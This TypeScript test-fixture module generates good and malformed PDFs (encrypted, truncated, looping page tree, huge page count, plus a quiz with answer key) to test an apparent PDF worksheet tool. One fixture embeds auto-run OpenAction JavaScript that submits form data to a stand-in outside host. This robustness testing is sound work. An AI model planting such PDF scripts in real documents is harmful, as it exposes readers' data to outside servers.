import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { makeWorksheet } from '../../demo/worksheet'

/** Files as teachers bring them, good and bad, in a folder of their own. */
export async function makeFiles() {
  const dir = mkdtempSync(join(tmpdir(), 'orthograph-files-'))
  const put = (name: string, bytes: Uint8Array | string) => {
    const path = join(dir, name)
    writeFileSync(path, bytes)
    return path
  }
  const worksheet = put('worksheet.pdf', await makeWorksheet())
  const locked = join(dir, 'locked.pdf')
  execFileSync('qpdf', ['--encrypt', 'open sesame', 'owner', '256', '--', worksheet, locked])
  const bytes = await makeWorksheet()
  return {
    dir,
    worksheet,
    locked,
    many: put('many.pdf', await numbered(12)),
    long: put('long.pdf', await numbered(1000)),
    empty: put('empty.pdf', ''),
    text: put('notes.pdf', 'These are only my notes, not a PDF.'),
    truncated: put('truncated.pdf', bytes.slice(0, Math.floor(bytes.length * 0.4))),
    image: put('photo.pdf', Buffer.concat([png().slice(0, 8), Buffer.alloc(60)])),
    loop: put(
      'loop.pdf',
      raw([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>',
      ]),
    ),
    script: put(
      'script.pdf',
      raw([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("http://elsewhere.example/");) >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] >>',
      ]),
    ),
    ten: put('second-quiz.pdf', await tenQuestions()),
    put,
  }
}

async function numbered(pages: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.Helvetica)
  for (let i = 1; i <= pages; i++) pdf.addPage([595, 842]).drawText(`Page ${i}`, { x: 60, y: 760, size: 24, font })
  return pdf.save()
}

/** A PDF of the given objects, numbered from 1, the first its catalog. */
function raw(objects: string[]): string {
  let text = '%PDF-1.4\n'
  const at = objects.map((o, i) => {
    const here = text.length
    text += `${i + 1} 0 obj\n${o}\nendobj\n`
    return here
  })
  const table = text.length
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map(n => `${String(n).padStart(10, '0')} 00000 n \n`).join('')}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF`
}

/**
 * A paper as a new user brings it: four pages, ten questions in two sections with parts, marks and options, and its own
 * key on the last page.
 */
export async function tenQuestions(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  const font = await pdf.embedFont(StandardFonts.TimesRoman),
    bold = await pdf.embedFont(StandardFonts.TimesRomanBold)
  const pages = [0, 1, 2, 3].map(() => pdf.addPage([595, 842]))
  const put = (page: number, y: number, x: number, text: string, heavy = false) =>
    pages[page]!.drawText(text, { x, y: 842 - y, size: 12, font: heavy ? bold : font })
  put(0, 50, 60, 'Balloon Day: second quiz', true)
  put(0, 80, 60, 'Section A', true)
  const places: [number, number][] = [
    [0, 110],
    [0, 330],
    [0, 560],
    [1, 80],
    [1, 300],
    [1, 540],
    [2, 110],
    [2, 270],
    [2, 430],
    [2, 600],
  ]
  put(2, 80, 60, 'Section B', true)
  places.forEach(([page, y], i) => {
    put(page, y, 60, `${i + 1}.`, true)
    if (i % 3 === 0) {
      put(page, y, 84, `Which of these is the height after ${i + 2} minutes?`)
      put(page, y, 520, '[1]')
      'ABCD'
        .split('')
        .forEach((letter, k) => put(page, y + 20, 84 + 105 * k, `${letter}   ${(i + 2) * (300 + 10 * k)} m`))
    } else if (i % 3 === 1) {
      put(page, y, 84, 'The balloon rises 318 m in every minute.')
      put(page, y + 20, 84, '(a) How high is it after an hour?')
      put(page, y + 20, 520, '[2]')
      put(page, y + 90, 84, '(b) When is it at 5 km?')
      put(page, y + 90, 520, '[3]')
    } else {
      put(page, y, 84, `Solve ${i}x - 4 = ${i * 3 - 4}.`)
      put(page, y, 520, '[3]')
    }
  })
  put(3, 60, 60, 'Answer key', true)
  ;[
    '1. B',
    '2a) 19080 m',
    '2b) 15.7 min ± 0.1',
    '3. x = 3',
    '4. C',
    '5a) 19080 m',
    '5b) 15.7 min',
    '6. x = 3',
    '7. A',
    '8a) 19080 m',
    '8b) 15.7 min',
    '9. x = 3',
    '10. D',
  ].forEach((line, i) => put(3, 90 + 20 * i, 60, line))
  pages.forEach((page, i) => page.drawText(`Page ${i + 1} of 4`, { x: 270, y: 30, size: 9, font }))
  return pdf.save()
}

/** A one-pixel PNG. */
function png(): Uint8Array {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const crc = body.reduce((c, b) => crcTable[(c ^ b) & 255]! ^ (c >>> 8), 0xffffffff) ^ 0xffffffff
    const out = Buffer.alloc(body.length + 8)
    out.writeUInt32BE(data.length, 0)
    body.copy(out, 4)
    out.writeUInt32BE(crc >>> 0, body.length + 4)
    return out
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0])),
    chunk('IDAT', deflateSync(Buffer.from([0, 255, 255, 255]))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
